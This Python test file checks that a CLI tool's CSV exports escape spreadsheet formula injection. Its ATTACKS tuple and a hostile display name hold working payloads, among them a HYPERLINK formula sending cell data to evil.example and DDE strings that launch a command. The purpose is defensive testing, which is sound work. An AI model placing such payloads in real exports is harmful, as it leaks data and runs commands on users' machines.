"""Issue 19, item 5: no CSV goodwill writes starts a cell with a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from goodwill.cli import app
from goodwill.importer import import_paths
from goodwill.people.identity import resolve
from goodwill.warehouse import Warehouse

runner = CliRunner()
ATTACKS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("attack", ATTACKS)
def test_channel_csv_escapes_formulas(attack: str) -> None:
    res = runner.invoke(app, ["channel", "--referrer", attack, "--format", "csv"])
    assert res.exit_code == 0, res.output
    cells = _cells(res.stdout)
    assert "'" + attack in cells  # kept, as text
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_people_csv_escapes_a_hostile_display_name(tmp_path: Path) -> None:
    """The case of the issue: a display name that is a formula, via `goodwill people`."""
    folder = tmp_path / "in"
    folder.mkdir()
    name = '=HYPERLINK("https://evil.example","x")'
    (folder / "accounts.csv").write_text("platform,handle,owner,display_name\nx,shop,brand,Shop\n")
    (folder / "interactions.csv").write_text(
        "platform,interaction_id,created_at,kind,direction,actor_handle,actor_name,"
        "target_handle,post_id,in_reply_to,text,url\n"
        f'x,i1,2026-03-05T10:00:00Z,reply,inbound,mallory,"{name.replace(chr(34), 2 * chr(34))}",'
        "shop,,,@SUM(1),\n"
    )
    db = tmp_path / "w.duckdb"
    with Warehouse.open(db) as wh:
        import_paths(wh, [folder], show_progress=False)
        resolve(wh)
    res = runner.invoke(app, ["people", "--db", str(db), "--month", "2026-03", "--format", "csv"])
    assert res.exit_code == 0, res.output
    cells = _cells(res.stdout)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    assert any(c.startswith("'=HYPERLINK") for c in cells), cells


def test_negative_numbers_stay_numbers() -> None:
    import pandas as pd

    from goodwill.output import csv_safe

    out = csv_safe(pd.DataFrame({"roi": [-0.5, 1.0], "name": ["-x", "ok"]})).to_csv(index=False)
    assert out.splitlines() == ["roi,name", "-0.5,'-x", "1.0,ok"]
